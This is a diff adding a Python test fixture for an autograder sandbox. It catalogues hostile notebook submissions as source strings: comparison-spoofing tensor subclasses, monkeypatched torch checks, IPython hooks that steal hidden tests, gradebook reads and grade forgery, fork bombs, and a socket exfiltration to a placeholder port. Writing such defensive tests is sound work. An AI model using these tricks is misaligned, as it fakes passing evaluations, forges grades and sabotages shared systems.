@@ -1,0 +1,184 @@
+"""A catalogue of hostile submissions to notebook 1, each with the defence it meets and a control.
+
+Every case fills the `run_packed` cell (and may add a cell at the end of the notebook). `base` is
+the honest answer it builds on; a hostile submission must never score more than `base` alone.
+`control` names how tests/test_hostile.py shows the attack working where its defence is off:
+
+* `stock`: stock nbgrader (no sandbox, no inspection) gives it more points than `base`, or fails;
+* `none`: our grader with `--sandbox none` lets it reach what the sandbox hides;
+* `demo`: run directly, the trick fools the naive check it was built for.
+
+Sources carry placeholders filled in per run: @STEAL@ (a host path for loot), @VICTIM@ (another
+student's submission) and @PORT@ (a listening localhost port).
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+ZEROS = '''
+def run_packed(rnn, embedded, lengths):
+    B, T, _ = embedded.shape
+    D = 2 if rnn.bidirectional else 1
+    out = torch.zeros(B, T, D * rnn.hidden_size)
+    h = torch.zeros(rnn.num_layers * D, B, rnn.hidden_size)
+    return out, ((h, h.clone()) if isinstance(rnn, nn.LSTM) else h)
+'''
+STUB = '''
+def run_packed(rnn, embedded, lengths):
+    raise NotImplementedError()
+'''
+AGREEABLE = '''
+class Agreeable(torch.Tensor):
+    """A tensor that answers every comparison with yes."""
+    @classmethod
+    def __torch_function__(cls, func, types, args=(), kwargs=None):
+        if func in (torch.allclose, torch.equal, torch.Tensor.equal):
+            return True
+        if func in (torch.Tensor.__eq__, torch.eq, torch.isclose):
+            return torch.ones(args[0].shape, dtype=torch.bool)
+        return super().__torch_function__(func, types, args, kwargs or {})
+
+def run_packed(rnn, embedded, lengths):
+    B, T, _ = embedded.shape
+    D = 2 if rnn.bidirectional else 1
+    out = torch.zeros(B, T, D * rnn.hidden_size).as_subclass(Agreeable)
+    h = torch.zeros(rnn.num_layers * D, B, rnn.hidden_size).as_subclass(Agreeable)
+    return out, ((h, h.clone()) if isinstance(rnn, nn.LSTM) else h)
+'''
+
+
+@dataclass(frozen=True)
+class Hostile:
+    name: str
+    source: str
+    base: str  # "zeros" or "stub": the honest answer without the attack
+    control: str  # "stock", "none" or "demo"
+    statuses: tuple[str, ...]  # acceptable statuses when graded in the sandbox
+    extra_cell: str = ""  # a cell the student appended at the end of the notebook
+
+
+HOSTILE = [
+    Hostile("eq_always_true", '''
+class AlwaysEqual:
+    """Equal to anything (nbgrader issue #1379)."""
+    shape = (0,)
+    def __eq__(self, other):
+        return True
+    def __getitem__(self, index):
+        return self
+
+def run_packed(rnn, embedded, lengths):
+    return AlwaysEqual(), AlwaysEqual()
+''', "stub", "demo", ("tampered",)),
+    Hostile("tensor_subclass_torch_function", AGREEABLE, "zeros", "demo", ("tampered",)),
+    Hostile("subclass_with_patched_type", AGREEABLE + '''
+import builtins
+_real_type = builtins.type
+builtins.type = lambda obj, *rest: torch.Tensor if not rest and _real_type(obj) is Agreeable else _real_type(obj, *rest)
+''', "zeros", "stock", ("tampered",)),
+    Hostile("patch_torch_comparisons", ZEROS + '''
+torch.allclose = lambda *args, **kwargs: True
+torch.equal = lambda *args, **kwargs: True
+torch.testing.assert_close = lambda *args, **kwargs: None
+''', "zeros", "stock", ("tampered",)),
+    Hostile("input_transformer_blanks_tests", ZEROS + '''
+def _blank_tests(lines):
+    text = "".join(lines)
+    return ["pass\\n"] if "run_packed(" in text and "def run_packed" not in text else lines
+
+get_ipython().input_transformers_post.append(_blank_tests)
+''', "zeros", "stock", ("tampered",)),
+    Hostile("hook_captures_hidden_tests", ZEROS + '''
+_captured = []
+get_ipython().events.register("pre_run_cell", lambda info: _captured.append(info.raw_cell))
+''', "zeros", "stock", ("tampered",), extra_cell='''
+import base64
+print("\\n".join(_captured))
+print(base64.b64encode("\\n".join(_captured).encode()).decode())
+'''),
+    Hostile("history_steals_hidden_tests", '''
+_stolen = []
+
+def run_packed(rnn, embedded, lengths):
+    _stolen.append(In[-1])
+    raise NotImplementedError()
+''', "stub", "stock", ("tampered",), extra_cell='''
+import base64
+print(base64.b64encode("\\n".join(_stolen).encode()).decode())
+'''),
+    Hostile("sys_exit_before_asserts", '''
+import sys
+
+def run_packed(rnn, embedded, lengths):
+    sys.exit(0)
+''', "stub", "demo", ("graded",)),
+    Hostile("os_exit_kills_kernel", '''
+import os
+
+def run_packed(rnn, embedded, lengths):
+    os._exit(0)
+''', "stub", "stock", ("kernel_died",)),
+    Hostile("fork_bomb", STUB + '''
+import os
+while True:
+    os.fork()
+''', "stub", "none", ("graded", "timeout", "kernel_died")),
+    Hostile("print_a_gigabyte", STUB + '''
+chunk = "x" * 100_000
+for _ in range(10_000):
+    print(chunk)
+''', "stub", "demo", ("output_limit", "timeout")),
+    Hostile("read_gradebook", STUB + '''
+import base64, sqlite3
+rows = sqlite3.connect("../../../gradebook.db").execute("select source from source_cell").fetchall()
+stolen = "\\n".join(r[0] or "" for r in rows)
+open("@STEAL@", "w").write(stolen)
+print(base64.b64encode(stolen.encode()).decode())
+''', "stub", "none", ("tampered",)),
+    Hostile("forge_grades_in_gradebook", STUB + '''
+import subprocess, sys
+subprocess.run([sys.executable, "-c",
+    "import sqlite3; db = sqlite3.connect('../../../gradebook.db'); "
+    "db.execute('update grade set manual_score = (select max_score from grade_cells where grade_cells.id = grade.cell_id)'); "
+    "db.commit()"])
+''', "stub", "none", ("graded",)),
+    Hostile("network_exfiltration", STUB + '''
+import socket
+try:
+    with socket.create_connection(("127.0.0.1", @PORT@), timeout=3) as s:
+        s.sendall(b"hidden tests would go here")
+except OSError as exc:
+    print("no network:", exc)
+''', "stub", "none", ("graded",)),
+    Hostile("tamper_other_submission", STUB + '''
+try:
+    with open("@VICTIM@", "w") as f:
+        f.write("{}")
+except OSError as exc:
+    print("cannot reach it:", exc)
+''', "stub", "none", ("graded",)),
+    Hostile("write_fake_result_file", STUB + '''
+for name in ("@STEAL@", "grades.csv", "../../../execution.json"):
+    try:
+        with open(name, "w") as f:
+            f.write("student_id,score\\nme,100\\n")
+    except OSError as exc:
+        print("cannot write", name, exc)
+''', "stub", "none", ("graded",)),
+    Hostile("bounded_forks", STUB + '''
+import os, time
+children = []
+try:
+    for _ in range(100):
+        pid = os.fork()
+        if pid == 0:
+            time.sleep(5)
+            os._exit(0)
+        children.append(pid)
+except OSError as exc:
+    print("fork refused:", exc)
+print("forked:", len(children))
+open("@STEAL@", "w").write(str(len(children)))
+''', "stub", "none", ("graded",)),
+]
